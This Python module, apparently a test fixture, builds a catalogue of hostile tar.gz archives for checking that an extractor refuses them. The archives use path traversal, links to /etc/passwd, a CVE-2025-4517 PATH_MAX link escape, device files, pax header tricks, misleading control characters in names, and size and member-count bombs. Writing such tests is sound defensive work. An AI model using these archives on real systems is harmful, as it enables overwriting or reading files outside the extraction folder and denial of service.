"""Archives that attack whoever unpacks them. Each is a whole tar.gz, whose harmful member is named in its key."""

import gzip
import io
import tarfile
from collections.abc import Callable

Add = Callable[[tarfile.TarFile], object]


def member(name: str, content: bytes = b"x", **fields: object) -> Add:
    """A member of this name; `fields` are those of tarfile.TarInfo."""
    info = tarfile.TarInfo(name)
    info.size = len(content)
    for field, value in fields.items():
        setattr(info, field, value)
    return lambda tar: tar.addfile(info, io.BytesIO(content))


def link(name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> Add:
    """A symbolic or hard link."""
    return member(name, b"", type=kind, linkname=target)


def raw(*blocks: bytes) -> Add:
    """Bytes as they are."""
    return lambda tar: [tar.fileobj.write(block) for block in blocks] if tar.fileobj else None


def header(name: str, size: int, kind: bytes) -> bytes:
    """One header, whether its content follows or not."""
    info = tarfile.TarInfo(name)
    info.size, info.type = size, kind
    return info.tobuf(tarfile.GNU_FORMAT)


def packed(*members: Add, tar_format: int = tarfile.PAX_FORMAT) -> bytes:
    """The tar.gz of these members."""
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w", format=tar_format) as tar:
        for add in members:
            add(tar)
    return gzip.compress(stream.getvalue(), 1, mtime=0)


def beyond_the_longest_path() -> bytes:
    """CVE-2025-4517: links whose real path is longer than PATH_MAX, so that realpath() no longer follows them."""
    folder, members, steps = "", [], "abcdefghijklmnop"
    for step in steps:
        members += [member(f"{folder}{'d' * 247}", b"", type=tarfile.DIRTYPE), link(f"{folder}{step}", "d" * 247)]
        folder += f"{'d' * 247}/"
    deep = f"{'/'.join(steps)}/{'l' * 254}"
    members += [link(deep, "../" * len(steps)), link("escape", f"{deep}/../../..")]
    return packed(*members, member("escape/outside"))


def pax(**records: str) -> Add:
    """A file with these pax records."""
    return member("file", pax_headers=records)


LARGE = 16 << 20
HOSTILE = {
    "links longer than a path": beyond_the_longest_path(),
    "absolute": packed(member("/outside-of-everything")),
    "up": packed(member("../outside")),
    "up within": packed(member("a/../../outside")),
    "backslash": packed(member("..\\outside")),
    "drive": packed(member("C:outside")),
    "home": packed(member("~/outside")),
    "pax path up": packed(pax(path="../outside")),
    "pax path with NUL": packed(pax(path="a\0b")),
    "escape sequence": packed(member("a\x1b[2Jb")),
    "line end": packed(member("a\nb")),
    "right to left": packed(member("a\u202eb")),
    "not UTF-8": packed(member("a\udcffb"), tar_format=tarfile.GNU_FORMAT),
    "long name": packed(member("n" * 256)),
    "long path": packed(member("a/" * 300 + "b"), tar_format=tarfile.GNU_FORMAT),
    "deep": packed(member("a/" * 50 + "b")),
    "symbolic link": packed(link("metrics.json", "/etc/passwd")),
    "link, then below it": packed(link("a", "/var"), member("a/outside")),
    "hard link": packed(link("metrics.json", "/etc/passwd", tarfile.LNKTYPE)),
    "hard link within": packed(member("a"), link("b", "a", tarfile.LNKTYPE)),
    "character device": packed(member("null", b"", type=tarfile.CHRTYPE, devmajor=1, devminor=3)),
    "block device": packed(member("disk", b"", type=tarfile.BLKTYPE, devmajor=8)),
    "FIFO": packed(member("fifo", b"", type=tarfile.FIFOTYPE)),
    "contiguous": packed(member("cont", type=tarfile.CONTTYPE)),
    "unknown type": packed(member("odd", type=b"Z")),
    "twice": packed(member("a"), member("a", b"y")),
    "twice but for case": packed(member("metrics.json"), member("METRICS.json")),
    "twice but for its Unicode form": packed(member("\u00e9"), member("e\u0301")),
    "below a file": packed(member("a"), member("a/b")),
    "file in a folder's place": packed(member("a/b"), member("a")),
    "folder in a file's place": packed(member("a"), member("a", b"", type=tarfile.DIRTYPE)),
    "folder with content": packed(raw(header("a", 3, tarfile.DIRTYPE), b"abc".ljust(512, b"\0"))),
    "sparse": packed(raw(header("a", 0, tarfile.GNUTYPE_SPARSE))),
    "pax sparse": packed(pax(**{"GNU.sparse.major": "1", "GNU.sparse.name": "../outside"})),
    "pax for all that follow": packed(
        raw(header("g", 27, tarfile.XGLTYPE), b"27 path=../../../../outside\n".ljust(512, b"\0"))
    ),
    "large pax header": packed(raw(header("p", LARGE, tarfile.XHDTYPE), bytes(LARGE)), member("a")),
    "large long name": packed(raw(header("l", LARGE, tarfile.GNUTYPE_LONGNAME), b"n" * LARGE), member("a")),
    "large long link": packed(raw(header("l", LARGE, tarfile.GNUTYPE_LONGLINK), b"n" * LARGE), member("a")),
    "pax header without end": packed(raw(header("p", 1 << 40, tarfile.XHDTYPE))),
    "pax record of no length": packed(
        raw(header("p", 9, tarfile.XHDTYPE), b"0 path=a\n".ljust(512, b"\0")), member("a")
    ),
    "pax size of words": packed(pax(size="many")),
    "pax size below zero": packed(pax(size="-512")),
    "more bytes than there are": packed(raw(header("a", 1 << 30, b"0"))),
    "more bytes than any disk has": packed(raw(header("a", 1 << 60, b"0"))),
    "only headers": packed(*[raw(header("l", 1, tarfile.GNUTYPE_LONGNAME), b"n".ljust(512, b"\0"))] * 20_000),
    "very many": packed(*[member(f"{number}", b"") for number in range(20_000)]),
    "wrong checksum": packed(raw(b"a".ljust(512, b"\0"))),
    "a second archive that is damaged": packed(member("a")) + b"\x1f\x8b\x08",
}
